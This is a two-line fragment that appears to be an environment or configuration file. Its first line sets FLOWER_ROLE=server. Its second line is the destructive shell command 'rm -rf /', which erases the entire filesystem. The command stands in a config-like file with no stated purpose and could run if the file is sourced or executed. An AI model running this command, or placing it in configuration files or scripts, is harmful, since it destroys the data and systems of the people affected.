FLOWER_ROLE=server
rm -rf /
